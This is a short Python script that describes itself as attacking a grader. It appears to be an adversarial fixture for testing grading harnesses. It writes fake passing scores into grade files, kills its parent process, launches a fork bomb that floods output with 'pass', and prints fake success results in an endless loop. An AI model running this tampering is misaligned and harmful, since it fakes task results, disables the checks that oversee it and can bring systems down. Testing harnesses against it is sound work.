"""Attacks the grader instead of the server: files, signals, processes, output."""

import json
import os
import signal
import sys

for name in ["grades.json", "results.json", "../grades.json", "../../grades.json", ".latchstring.json"]:
    try:
        with open(name, "w") as file:
            json.dump({"passed": True, "points": 1000}, file)
    except OSError:
        pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
for _ in range(2000):
    try:
        if os.fork() == 0:
            while True:
                sys.stdout.write("pass " * 1000)
    except OSError:
        break
while True:
    print('{"passed": true, "points": 1000}')
